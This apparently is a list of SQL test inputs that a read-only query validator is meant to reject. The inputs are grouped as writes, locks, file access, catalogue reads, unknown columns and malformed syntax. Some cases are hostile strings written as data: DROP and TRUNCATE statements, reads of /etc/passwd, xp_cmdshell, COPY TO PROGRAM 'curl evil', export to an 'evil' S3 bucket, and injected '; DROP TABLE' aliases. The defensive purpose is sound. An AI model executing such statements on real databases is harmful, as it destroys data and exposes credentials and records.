-- Several statements
SELECT 1; DROP TABLE orders
SELECT name FROM customers; DELETE FROM customers
SELECT name FROM customers; SELECT name FROM employees
SELECT name FROM customers;; UPDATE orders SET total = 0;
SELECT 1; COMMIT
SELECT 1 /* ; */ ; TRUNCATE TABLE orders -- x
-- Writing
INSERT INTO orders (id) VALUES (1)
INSERT INTO orders SELECT * FROM orders
UPDATE orders SET total = 0 WHERE id = 1
UPDATE orders SET total = (SELECT MAX(price) FROM items)
DELETE FROM orders
DELETE FROM orders WHERE id IN (SELECT order_id FROM order_lines)
MERGE INTO orders AS o USING items AS i ON o.id = i.id WHEN MATCHED THEN UPDATE SET total = 0
MERGE INTO orders AS o USING items AS i ON o.id = i.id WHEN NOT MATCHED THEN INSERT (id) VALUES (1)
TRUNCATE TABLE orders
CREATE TABLE stolen AS SELECT * FROM customers
CREATE TABLE t (id INT)
CREATE TEMPORARY TABLE t AS SELECT 1 AS x
CREATE VIEW v AS SELECT * FROM customers
CREATE OR REPLACE VIEW v AS SELECT * FROM customers
CREATE INDEX i ON orders (id)
CREATE SCHEMA s
CREATE DATABASE d
CREATE USER u
CREATE ROLE r
CREATE FUNCTION f() RETURNS INT AS 'SELECT 1'
CREATE PROCEDURE p() AS BEGIN DELETE FROM orders END
CREATE TRIGGER t AFTER INSERT ON orders BEGIN DELETE FROM items; END
ALTER TABLE orders ADD COLUMN x INT
ALTER TABLE orders DROP COLUMN total
ALTER TABLE orders RENAME TO old_orders
ALTER USER u IDENTIFIED BY 'x'
DROP TABLE orders
DROP TABLE IF EXISTS orders CASCADE
DROP VIEW v
DROP DATABASE d
GRANT SELECT ON orders TO PUBLIC
GRANT ALL PRIVILEGES ON orders TO someone
REVOKE ALL ON orders FROM someone
COMMENT ON TABLE orders IS 'x'
WITH a AS (SELECT 1 AS x) DELETE FROM orders
WITH a AS (SELECT 1 AS x) UPDATE orders SET total = 0
WITH a AS (SELECT 1 AS x) INSERT INTO orders (id) SELECT x FROM a
WITH gone AS (DELETE FROM orders RETURNING id) SELECT id FROM gone
WITH gone AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT id FROM gone
WITH gone AS (UPDATE orders SET total = 0 RETURNING id) SELECT id FROM gone
SELECT id FROM (DELETE FROM orders RETURNING id) AS x
SELECT (UPDATE orders SET total = 0 RETURNING id)
SELECT name FROM customers WHERE id IN (DELETE FROM orders RETURNING customer_id)
SELECT * INTO stolen FROM customers
SELECT name INTO stolen FROM customers WHERE id > 1
SELECT name FROM customers UNION ALL SELECT name INTO stolen FROM employees
-- Locks, transactions, sessions
SELECT id FROM orders FOR UPDATE
SELECT id FROM orders FOR SHARE
SELECT id FROM orders WHERE id = 1 FOR UPDATE NOWAIT
SELECT x.id FROM (SELECT id FROM orders FOR UPDATE) AS x
WITH l AS (SELECT id FROM orders FOR UPDATE SKIP LOCKED) SELECT id FROM l
LOCK TABLE orders IN EXCLUSIVE MODE
LOCK TABLES orders WRITE
BEGIN
BEGIN TRANSACTION
START TRANSACTION
COMMIT
ROLLBACK
SAVEPOINT s
SET x = 1
SET search_path = other
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
SET SESSION AUTHORIZATION admin
RESET ALL
USE other
CALL p()
CALL p(1, 'x')
EXECUTE p
EXECUTE IMMEDIATE 'DROP TABLE orders'
EXEC p
PREPARE s AS DELETE FROM orders
DEALLOCATE s
DECLARE c CURSOR FOR SELECT 1
FETCH NEXT FROM c
KILL 5
EXPLAIN SELECT id FROM orders
EXPLAIN ANALYZE DELETE FROM orders
EXPLAIN ANALYZE SELECT id FROM orders
DESCRIBE orders
SHOW TABLES
ANALYZE orders
VACUUM orders
ANALYZE TABLE orders
OPTIMIZE TABLE orders
REFRESH MATERIALIZED VIEW v
-- Files and other places
COPY orders TO '/tmp/x'
COPY orders FROM '/tmp/x'
LOAD DATA INFILE '/etc/passwd' INTO TABLE orders
EXPORT DATA OPTIONS (uri = 'gs://x/*') AS SELECT 1
UNLOAD ('SELECT 1') TO 's3://x'
ATTACH DATABASE 'x' AS y
SELECT name FROM '/etc/passwd'
SELECT * FROM 'data.csv'
SELECT * FROM "data.parquet"
SELECT * FROM @stage
SELECT load_file('/etc/passwd')
SELECT readfile('/etc/passwd')
SELECT pg_read_file('/etc/passwd')
SELECT * FROM read_csv('/etc/passwd')
SELECT xp_cmdshell('dir')
SELECT load_extension('x')
SELECT sleep(10)
SELECT pg_sleep(10)
SELECT benchmark(100000000, md5('x'))
SELECT getenv('HOME')
SELECT dblink('host=x', 'SELECT 1')
SELECT nextval('s')
SELECT set_config('a', 'b', 0)
SELECT current_setting('data_directory')
SELECT unknown_function(total) FROM orders
SELECT other.some_function(total) FROM orders
SELECT name FROM customers ORDER BY sleep(5)
SELECT name FROM customers WHERE id = 1 AND sleep(5) = 0
SELECT COUNT(*) AS n FROM customers GROUP BY city HAVING pg_sleep(5) IS NULL
SELECT CASE WHEN 1 = 1 THEN sleep(5) ELSE 0 END AS x
SELECT SUM(sleep(total)) OVER (PARTITION BY customer_id) AS x FROM orders
WITH a AS (SELECT sleep(5) AS x) SELECT x FROM a
-- Catalogues
SELECT * FROM information_schema.tables
SELECT table_name FROM information_schema.columns WHERE table_schema = 'public'
SELECT * FROM INFORMATION_SCHEMA.COLUMNS
SELECT * FROM pg_catalog.pg_tables
SELECT * FROM pg_shadow
SELECT * FROM sqlite_master
SELECT * FROM mysql.user
SELECT * FROM sys.objects
SELECT * FROM sys.tables
SELECT * FROM master.dbo.sysdatabases
SELECT * FROM snowflake.account_usage.users
SELECT * FROM duckdb_settings()
SELECT * FROM performance_schema.threads
SELECT c.name, (SELECT COUNT(*) FROM information_schema.tables) AS n FROM customers AS c
SELECT name FROM customers UNION ALL SELECT table_name FROM information_schema.tables
SELECT name FROM customers WHERE EXISTS (SELECT 1 FROM information_schema.tables)
WITH orders AS (SELECT * FROM pg_catalog.pg_class) SELECT * FROM orders
-- Tables and columns that are not there
SELECT * FROM users
SELECT * FROM secret.orders
SELECT * FROM other.public.orders
SELECT * FROM srv.db.dbo.orders
SELECT password FROM customers
SELECT c.password FROM customers AS c
SELECT customers.password FROM customers
SELECT x.name FROM customers AS c
SELECT customers.name FROM customers AS c
SELECT name FROM customers WHERE password = 'x'
SELECT name FROM customers ORDER BY password
SELECT COUNT(*) AS n FROM customers GROUP BY password
SELECT city, COUNT(*) AS n FROM customers GROUP BY city HAVING MAX(password) = 'x'
SELECT c.name FROM customers AS c JOIN orders AS o ON o.customer_id = c.password
SELECT c.name FROM customers AS c JOIN orders AS o ON o.client_id = c.id
SELECT c.name FROM customers AS c JOIN users AS u ON u.id = c.id
SELECT name FROM customers JOIN orders USING (password)
SELECT name FROM customers JOIN orders USING (name)
SELECT name FROM (SELECT id FROM customers) AS x
SELECT x.name FROM (SELECT id FROM customers) AS x
SELECT password FROM (SELECT * FROM customers) AS x
SELECT x.password FROM (SELECT * FROM (SELECT * FROM customers) AS y) AS x
SELECT x.password FROM (SELECT c.* FROM customers AS c JOIN orders AS o ON o.customer_id = c.id) AS x
WITH a AS (SELECT * FROM customers) SELECT password FROM a
WITH a AS (SELECT id FROM customers) SELECT name FROM a
WITH a AS (SELECT name AS n FROM customers) SELECT name FROM a
WITH a (x) AS (SELECT name FROM customers) SELECT name FROM a
WITH a AS (SELECT * FROM users) SELECT * FROM a
WITH customers AS (SELECT id FROM customers) SELECT name FROM customers
WITH a AS (SELECT 1 AS x), b AS (SELECT x, password FROM a) SELECT x FROM b
SELECT name FROM customers WHERE id IN (SELECT id FROM users)
SELECT name FROM customers WHERE id IN (SELECT password FROM orders)
SELECT name FROM customers AS c WHERE EXISTS (SELECT 1 FROM orders AS o WHERE o.customer_id = c.password)
SELECT name FROM customers AS c WHERE EXISTS (SELECT 1 FROM orders AS o WHERE o.customer_id = d.id)
SELECT (SELECT MAX(password) FROM orders) AS x FROM customers
SELECT name, (SELECT u.id FROM users AS u WHERE u.id = customers.id) AS x FROM customers
SELECT id FROM orders UNION ALL SELECT password FROM customers
SELECT id FROM orders UNION ALL SELECT id FROM users
SELECT RANK() OVER (PARTITION BY password ORDER BY id) AS r FROM customers
SELECT RANK() OVER (ORDER BY password) AS r FROM customers
SELECT SUM(CASE WHEN password = 'x' THEN 1 END) AS n FROM customers
SELECT COALESCE(name, password) AS x FROM customers
SELECT COUNT(DISTINCT password) AS n FROM customers
SELECT name FROM customers WHERE name LIKE password
SELECT name FROM customers WHERE name BETWEEN 'a' AND password
SELECT name FROM customers WHERE name IN ('a', password)
SELECT CAST(password AS INTEGER) AS x FROM customers
SELECT o.id FROM orders AS o CROSS JOIN customers AS c WHERE o.password = c.id
SELECT a.id FROM (SELECT id FROM orders) AS a JOIN (SELECT id FROM customers) AS b ON a.id = b.customer_id
SELECT c.id FROM customers AS c WHERE c.id = (SELECT MAX(x.id) FROM (SELECT id FROM orders) AS x WHERE x.customer_id = c.id)
SELECT z.* FROM customers AS c
SELECT custоmers.name FROM customers
SELECT name FROM custоmers
SELECT nаme FROM customers
-- Parameters and templates
SELECT name FROM customers WHERE id = ?
SELECT name FROM customers WHERE id = :id
SELECT name FROM customers WHERE id = $1
SELECT name FROM customers WHERE id = {{ id }}
SELECT name FROM {{ table }}
SELECT name FROM customers WHERE id = ${id}
SELECT name FROM customers WHERE id = %s
SELECT @@version
SELECT @x := 1
-- No SQL
Here is the query: SELECT 1
```sql SELECT 1 ```
DROP
SELECT
SELECT name FROM
SELECT name FROM customers WHERE
SELECT name FROM customers GROUP
SELECT (name FROM customers
SELECT 'name FROM customers
SELECT name FROM customers LIMIT 5 DROP TABLE orders
SELECT name FROM customers WHERE id = 1 OR 1 = 1 DELETE FROM orders
-- More of each kind
SELECT table_name FROM INFORMATION_SCHEMA.COLUMNS WHERE table_name = 'customers'
SELECT secret FROM customers
SELECT c.password FROM customers c
SELECT name FROM users
SELECT x.name FROM customers c
SELECT customers.name FROM customers c JOIN secrets s ON s.id = c.id
SELECT (SELECT token FROM api_keys LIMIT 1) FROM customers
WITH a AS (SELECT id FROM customers) SELECT nothing FROM a
SELECT id FROM other_schema.customers
SELECT name FROM customers WHERE id = (SELECT customer FROM orders LIMIT 1)
SELECT name FROM customers ORDER BY secret
SELECT COUNT(*) FROM customers GROUP BY hidden
SELECT name FROM customers HAVING hidden > 1
SELECT SUM(total) OVER (PARTITION BY hidden) FROM orders
SELECT name FROM customers UNION SELECT secret FROM employees
SELECT a.id FROM customers a JOIN orders b ON a.id = b.buyer
SELECT 1 FROM customers, (SELECT hidden FROM orders) x
SELECT name FROM customers; SHUTDOWN
DROP TABLE IF EXISTS customers; SELECT 1
BEGIN; DELETE FROM customers; COMMIT
SAVEPOINT a
SET TRANSACTION ISOLATION LEVEL READ UNCOMMITTED
SET search_path = evil
SET GLOBAL general_log = 'ON'
SET @x = 1
USE master
CALL do_it()
CALL do_it(1, 'x')
EXECUTE do_it
EXEC sp_who
PREPARE p AS SELECT 1
DECLARE @x INT = 1
DECLARE x CURSOR FOR SELECT 1
LOCK TABLE customers IN EXCLUSIVE MODE
LOCK TABLES customers WRITE
ANALYZE customers
VACUUM
REINDEX TABLE customers
EXPLAIN ANALYZE DELETE FROM customers
EXPLAIN SELECT 1
DESCRIBE customers
DESC customers
SHOW GRANTS
SHOW VARIABLES
COPY customers TO '/tmp/x'
COPY customers FROM '/etc/passwd'
COPY (SELECT * FROM customers) TO PROGRAM 'curl evil'
UNLOAD ('SELECT * FROM customers') TO 's3://evil/' IAM_ROLE 'x'
LOAD DATA INFILE '/etc/passwd' INTO TABLE customers
INSERT OVERWRITE INTO customers SELECT * FROM customers
REPLACE INTO customers VALUES (1)
UPSERT INTO customers VALUES (1)
SELECT * INTO OUTFILE '/tmp/x' FROM customers
SELECT name FROM customers INTO @x
SELECT name FROM customers WHERE id = @secret
SELECT $$
SELECT name FROM customers WHERE id = %(id)s
SELECT CURRENT_USER
SELECT CURRENT_USER()
SELECT SESSION_USER
SELECT USER
SELECT SYSTEM_USER
SELECT VERSION()
SELECT my_udf(name) FROM customers
SELECT evil.my_udf(name) FROM customers
SELECT * FROM my_table_function(1)
SELECT * FROM TABLE(evil())
SELECT name FROM customers FOR UPDATE OF customers
SELECT name FROM customers LOCK IN SHARE MODE
SELECT NEXTVAL('seq')
SELECT seq.NEXTVAL
SELECT NEXT VALUE FOR seq
WITH x AS (UPDATE orders SET total = 0) SELECT 1
SELECT * FROM (INSERT INTO orders (id) VALUES (1) RETURNING *) x
MERGE INTO customers USING orders ON 1 = 1 WHEN MATCHED THEN DELETE
CREATE TABLE x AS SELECT 1 AS a
CREATE OR REPLACE FUNCTION f() RETURNS INT LANGUAGE sql AS 'SELECT 1'
CREATE EXTENSION dblink
ALTER SYSTEM SET x = 1
ALTER SESSION SET x = 1
GRANT ALL ON customers TO evil
DO $$ BEGIN DELETE FROM customers; END $$
I'm sorry, I can't help with that.
Here is the SQL: SELECT name FROM customers
SELECT name customers
SELCT name FROM customers
SELECT name FROM customers LIMIT
SELECT a.id FROM customers a, orders b, items c
SELECT COUNT(*) FROM customers CROSS JOIN orders CROSS JOIN items CROSS JOIN employees
SELECT COUNT(*) FROM orders a, orders b, orders c, orders d
WITH a AS (SELECT 1 FROM orders x, orders y) SELECT COUNT(*) FROM a, a b
SELECT COUNT(*) FROM orders a JOIN orders b ON 1 = 1 JOIN orders c ON 1 = 1
SELECT COUNT(*) FROM orders a JOIN orders b ON a.id <> b.id JOIN orders c ON c.id <> a.id
-- Tables where the parser sees a name alone
SELECT * FROM customers c CROSS JOIN LATERAL employees_secret s
SELECT * FROM customers c, LATERAL information_schema.tables s
SELECT name.id FROM customers
SELECT customers.name.secret FROM customers
SELECT o.id FROM orders o WHERE total.name = 'x'
-- windows that nothing defines
SELECT RANK() OVER nowhere FROM orders
SELECT SUM(total) OVER nowhere FROM orders WINDOW w AS (ORDER BY id)
SELECT c.nope FROM ((customers c INNER JOIN orders o ON o.customer_id = c.id) LEFT JOIN order_lines l ON l.order_id = o.id)
SELECT c.name FROM ((customers c INNER JOIN secrets s ON s.id = c.id) LEFT JOIN order_lines l ON l.order_id = c.id)
SELECT c.name FROM ((customers c INNER JOIN orders o ON o.customer_id = c.id) LEFT JOIN order_lines l ON l.nope = o.id)
SELECT id, .5.0 AS a FROM orders
SELECT * / total FROM orders
SELECT 1, SELECT 2
-- As many columns as each other
SELECT id FROM customers UNION ALL SELECT id, name FROM customers
SELECT id, name FROM customers WHERE id = 1 UNION SELECT NULL
SELECT name FROM customers UNION (SELECT name FROM items UNION SELECT id, name FROM items)
SELECT * FROM items UNION SELECT NULL
WITH t (a, b) AS (SELECT id FROM items) SELECT a FROM t
SELECT * customers JOIN employees
-- Clauses that belong after the last query, which the parser takes for those of the query before
SELECT name FROM customers ORDER BY name UNION ALL SELECT name FROM employees
SELECT name FROM customers LIMIT 3 UNION ALL SELECT name FROM employees
SELECT name FROM customers UNION ALL SELECT department FROM employees ORDER BY department UNION ALL SELECT name FROM items
SELECT name FROM customers WHERE name IN (SELECT name FROM items ORDER BY name UNION ALL SELECT name FROM employees)
WITH q AS (SELECT id FROM customers), q AS (SELECT id FROM orders) SELECT id FROM q
-- Two tables of one name, of whose columns nobody can tell which is meant
SELECT COUNT(*) AS n FROM orders JOIN orders ON orders.id = orders.id
SELECT o.total FROM orders AS o JOIN customers AS o ON o.id = o.customer_id
SELECT o.id FROM orders AS o JOIN (SELECT id FROM customers) AS o ON TRUE
SELECT c.name FROM customers c JOIN (orders o JOIN items i ON name = o.status) ON id = o.customer_id
-- Aggregates and windows of rows that WHERE has yet to choose, and aggregates of aggregates
SELECT name FROM customers WHERE SUM(id) > 3
SELECT name FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE COUNT(*) > 1 GROUP BY customer_id)
SELECT t.id FROM (SELECT id FROM orders WHERE MAX(total) = total) AS t
WITH t AS (SELECT id FROM orders WHERE AVG(total) < total) SELECT id FROM t
SELECT name FROM customers AS c WHERE (SELECT id FROM orders WHERE MIN(total) > 1) > 2
SELECT id FROM orders WHERE ROW_NUMBER() OVER (ORDER BY id) = 1
SELECT MAX(COUNT(*)) AS most FROM orders GROUP BY customer_id
SELECT AVG(SUM(total) + 1) AS most FROM orders GROUP BY customer_id

-- FROM twice, of which the parser makes FROM SELECT * FROM
SELECT name FROM FROM customers
SELECT name FROM customers JOIN FROM orders ON customer_id = customers.id
-- Numbers of rows that each row would tell
SELECT id FROM orders LIMIT customer_id
SELECT id FROM orders LIMIT 5 OFFSET orders.customer_id
SELECT id FROM orders UNION ALL SELECT id FROM customers LIMIT id
SELECT id FROM orders LIMIT 5 BY customer_id
-- Aggregates and windows, by their names or places, before there are groups or windows
SELECT customer_id, SUM(total) AS spent FROM orders WHERE spent > 3 GROUP BY customer_id
SELECT id, ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY id) AS place FROM orders WHERE place = 1
SELECT customer_id, SUM(total) AS spent FROM orders GROUP BY customer_id, spent
SELECT customer_id, SUM(total) AS spent FROM orders GROUP BY 1, 2
SELECT customer_id, COUNT(*) FROM orders GROUP BY customer_id, COUNT(*)
SELECT id, RANK() OVER (ORDER BY total) AS place FROM orders HAVING place < 3
SELECT customer_id FROM orders GROUP BY customer_id HAVING RANK() OVER (ORDER BY customer_id) < 3
SELECT customer_id, COUNT(DISTINCT id) AS many FROM orders WHERE many > 1 GROUP BY customer_id
SELECT id FROM customers WHERE id IN (SELECT customer_id, total FROM orders)
SELECT id FROM customers WHERE id = (SELECT * FROM orders)
SELECT id, (SELECT COUNT(*), MAX(total) FROM orders WHERE orders.customer_id = customers.id) AS n FROM customers
SELECT (SELECT name FROM customers WHERE SUM(id) > 3) AS n
SELECT o.id, (SELECT c.name FROM customers c WHERE MAX(c.id) = 3 AND c.id = o.customer_id) AS n FROM orders o GROUP BY o.id, o.customer_id
SELECT COUNT(DISTINCT ..5) FROM orders
-- Keys at places where the query has no column
SELECT name FROM customers WHERE id = 1 ORDER BY 10
SELECT name FROM customers ORDER BY 1, 0
SELECT * FROM order_lines ORDER BY 5
SELECT status, COUNT(*) FROM orders GROUP BY 3
SELECT id FROM customers UNION ALL SELECT id FROM orders ORDER BY 2
-- Clauses of one query behind two, or behind its parentheses
SELECT name FROM customers UNION ALL SELECT a.name FROM customers a, , customers b, customers c
(SELECT name FROM customers) UNION ALL (SELECT name FROM items) JOIN orders ON 1 = 1
(SELECT name FROM customers) GROUP BY name
-- Functions of windows with none, and windows where none are computed
SELECT id, ROW_NUMBER() FROM orders
SELECT SUM(RANK() OVER (ORDER BY total)) FROM orders
SELECT RANK() OVER (ORDER BY ROW_NUMBER() OVER (ORDER BY total)) FROM orders
-- Commas with nothing before them
SELECT id,, total FROM orders
SELECT , id FROM orders
SELECT COALESCE(, total) FROM orders
-- Values where a query, a row or a column belongs
SELECT id FROM orders WHERE EXISTS (id)
SELECT id FROM orders WHERE id > ()
SELECT * total FROM orders
SELECT AVG(*) FROM orders
SELECT DISTINCT FROM orders
-- Window functions without a window
SELECT LAG(total) FROM orders
SELECT id FROM orders ORDER BY LEAD(total)
SELECT id FROM orders WHERE PERCENT_RANK() > 0.5
SELECT CUME_DIST() FROM orders
SELECT FIRST_VALUE(total) FROM orders
SELECT NTH_VALUE(total, 2) FROM orders
-- AS with nothing behind it
SELECT total FROM orders AS
SELECT x.total FROM (SELECT total FROM orders AS) AS x
SELECT COUNT(*) FROM customers AS, orders AS o
-- Aggregates of nothing, and of too much
SELECT COUNT(DISTINCT) FROM orders
SELECT SUM(DISTINCT total, id) FROM orders
SELECT id, SUM(total) OVER FROM orders
SELECT total := 1 FROM orders
SELECT 1 AS E'a; DROP TABLE orders; --'
SELECT 1 AS $$a; DROP TABLE orders; --$$
SELECT name FROM customers AS $a$c; DROP TABLE orders; --$a$
SELECT name AS r'a; DROP TABLE orders; --' FROM customers
-- Expressions that read themselves, but are no UNION
WITH RECURSIVE n AS (SELECT name FROM n) SELECT name FROM n
WITH RECURSIVE n AS (SELECT id FROM (SELECT 1 AS id UNION ALL SELECT id + 1 FROM n) AS q) SELECT id FROM n
WITH RECURSIVE n AS (WITH q AS (SELECT 1 AS id UNION ALL SELECT id + 1 FROM n) SELECT id FROM q) SELECT id FROM n
-- The name of a window is no column
SELECT id, RANK() OVER w FROM orders WINDOW w AS (ORDER BY id) ORDER BY w
SELECT q.w FROM (SELECT RANK() OVER w FROM orders WINDOW w AS (ORDER BY id)) q
SELECT id, SUM(total) OVER w FROM orders WINDOW w AS (PARTITION BY status ORDER BY w)
-- Parentheses and signs that mean nothing
SELECT (*) FROM orders
SELECT COUNT((*)) FROM orders
SELECT () FROM orders
SELECT (id total) FROM orders
SELECT id FROM orders WHERE (id total) IN (SELECT id, total FROM orders)
SELECT id FROM orders WHERE (id, total)
SELECT id FROM orders WHERE total > > 5
SELECT c.id FROM customers AS c OUTER JOIN orders AS o ON o.customer_id = c.id
WITH p AS (5 AS x) SELECT x FROM p
SELECT id FROM orders WHERE id IN (SELECT FROM customers)
-- A star, and aggregates, where they mean nothing
SELECT *
SELECT c.id FROM customers AS c JOIN orders AS o ON SUM(o.total) = c.id
-- What only aggregates and window functions have, after other values
SELECT COALESCE(SUM(total), 0) OVER () FROM orders
SELECT ROUND(AVG(total), 2) OVER (ORDER BY id) FROM orders
SELECT CASE WHEN total > 1 THEN 1 END OVER () FROM orders
SELECT (SUM(total)) OVER () FROM orders
SELECT CAST(total AS INTEGER) FILTER (WHERE total > 1) FROM orders
SELECT UPPER(DISTINCT name) FROM customers
-- Subqueries of two columns as one value
SELECT CAST((SELECT id, total FROM orders LIMIT 1) AS VARCHAR(9)) FROM customers
SELECT CASE WHEN id > 1 THEN (SELECT id, total FROM orders LIMIT 1) END FROM customers
SELECT name FROM customers ORDER BY (SELECT id, total FROM orders LIMIT 1)
SELECT o.id FROM orders AS o NATURAL JOIN order_lines AS l ON l.order_id = o.id
SELECT SUM(total) OVER (ORDER BY id ROWS BETWEEN CURRENT ROW AND UNBOUNDED PRECEDING) FROM orders
SELECT SUM(total) OVER (ORDER BY id ROWS BETWEEN 1 FOLLOWING AND 1 PRECEDING) FROM orders
SELECT SUM(total) OVER (ORDER BY id ROWS UNBOUNDED FOLLOWING) FROM orders
